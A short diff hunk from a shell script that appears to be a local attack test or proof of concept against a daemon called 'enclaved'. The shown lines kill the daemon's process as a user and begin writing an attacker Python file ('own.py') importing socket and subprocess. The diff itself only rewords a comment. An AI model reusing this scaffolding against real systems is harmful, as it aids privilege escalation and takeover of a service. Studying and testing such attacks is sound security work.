@@ -13,7 +13,7 @@ enclaved=$ATTACK_PREFIX/libexec/chatelaine/enclaved
 pid=$(daemon_pid)
 user kill "$pid"
 await is_silent
-# The program becomes the user's by itself, who may not reach every python3 that root has.
+# The program changes to the user itself, since the user may not reach every python3 that root has.
 cat >"$ATTACK_FOLDER/own.py" <<'PYTHON'
 import os, socket, struct, subprocess, sys, threading
 
